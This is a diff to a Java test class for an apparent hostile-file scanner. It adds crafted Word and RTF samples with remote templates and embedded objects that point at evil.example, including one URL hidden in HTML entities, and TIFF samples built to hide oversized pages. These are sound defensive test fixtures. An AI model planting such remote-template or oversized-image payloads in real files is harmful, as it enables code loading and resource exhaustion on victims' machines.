@@ -105,8 +105,26 @@ class HostileFilesTest extends DocumentCase {
                 "a.pdf",
                 joined(PDF, SampleFiles.zip(Map.of("x.exe", program()))),
                 "archive_inside"));
+        for (var kind : List.of("attachedTemplate", "oleObject", "frame", "subDocument", "aFChunk")) {
+            all.add(found("remote " + kind, "a.docx", related(kind, "https://evil.example/x.dotm"), "remote_parts"));
+        }
+        all.add(found(
+                "remote template, written in entities",
+                "a.docx",
+                related("attachedTemplate", "&#104;&#x74;tp://evil.example/x.dotm"),
+                "remote_parts"));
+        all.add(found("relations that are none", "a.docx", with("word/_rels/x.xml.rels", "<a"), "broken_archive"));
+        all.add(found("object in RTF", "a.rtf", bytes("{\\rtf1 {\\object\\objdata 0105}}"), "objects_inside"));
+        all.add(found("object far inside an RTF", "a.rtf", deepInRtf("\\objupdate"), "objects_inside"));
+        all.add(found(
+                "remote template in RTF",
+                "a.rtf",
+                bytes("{\\rtf1 {\\*\\template http://evil.example/x}}"),
+                "remote_parts"));
         all.add(found("giant PNG", "a.png", giantPng(), "picture_too_large"));
         all.add(found("giant TIFF", "a.tif", tiff(40_000, 40_000, 0), "picture_too_large"));
+        all.add(found("giant second page", "a.tif", secondPage(), "picture_too_large"));
+        all.add(found("TIFF of the kind for giants", "a.tif", bigTiff(), "picture_too_large"));
         all.add(found("TIFF that goes round", "a.tif", tiff(10, 10, 8), "broken_picture"));
         all.add(found("PNG without a width", "a.png", pngOf(0, 10), "broken_picture"));
 
@@ -186,6 +204,8 @@ class HostileFilesTest extends DocumentCase {
                 honest("a.pdf", SampleFiles.PDF, PDF),
                 honest("a.PDF", ANY, PDF),
                 honest("a.docx", SampleFiles.DOCX, DOCX),
+                honest("a.docx", SampleFiles.DOCX, related("hyperlink", "https://court.example/rules")),
+                honest("a.docx", SampleFiles.DOCX, related("attachedTemplate", "file:///C:\\Templates\\Letter.dotm")),
                 honest("a.xlsx", SampleFiles.XLSX, SampleFiles.xlsx()),
                 honest("a.jpg", "image/jpeg", SampleFiles.picture("jpg")),
                 honest("a.jpeg", "image/jpeg", SampleFiles.picture("jpg")),
@@ -229,6 +249,21 @@ class HostileFilesTest extends DocumentCase {
         var parts = SampleFiles.docxParts();
         parts.put(part, bytes(content));
         return SampleFiles.zip(parts);
+    }
+
+    /** A Word file with something that belongs to it and lies elsewhere. */
+    private static byte[] related(String kind, String target) {
+        return with(
+                "word/_rels/settings.xml.rels",
+                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\""
+                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + kind
+                        + "\" Target=\"" + target + "\" TargetMode=\"External\"/></Relationships>");
+    }
+
+    /** The word lies across the border of two blocks of reading. */
+    private static byte[] deepInRtf(String word) {
+        var text = "{\\rtf1 ";
+        return bytes(text + "x".repeat(64 * 1024 - text.length() - 4) + word + "}");
     }
 
     private static byte[] sheetWith(String part) {
@@ -337,6 +372,23 @@ class HostileFilesTest extends DocumentCase {
         tiff.putShort((short) 256).putShort((short) 4).putInt(1).putInt(width);
         tiff.putShort((short) 257).putShort((short) 4).putInt(1).putInt(height);
         tiff.putInt(next);
+        return tiff.array();
+    }
+
+    /** A small page, and one whose size comes out small where it is multiplied carelessly. */
+    private static byte[] secondPage() {
+        var first = tiff(10, 10, 100);
+        System.arraycopy(tiff(-1, -1, 0), 8, first, 100, 30);
+        return first;
+    }
+
+    /** Read as an ordinary TIFF it has a small page; its true one is giant. */
+    private static byte[] bigTiff() {
+        var tiff = ByteBuffer.allocate(600_000);
+        tiff.put(bytes("MM\0+")).putShort((short) 8).putShort((short) 0).putLong(100);
+        tiff.position(0x80000).putShort((short) 2);
+        tiff.putShort((short) 256).putShort((short) 4).putInt(1).putInt(10);
+        tiff.putShort((short) 257).putShort((short) 4).putInt(1).putInt(10);
         return tiff.array();
     }
 
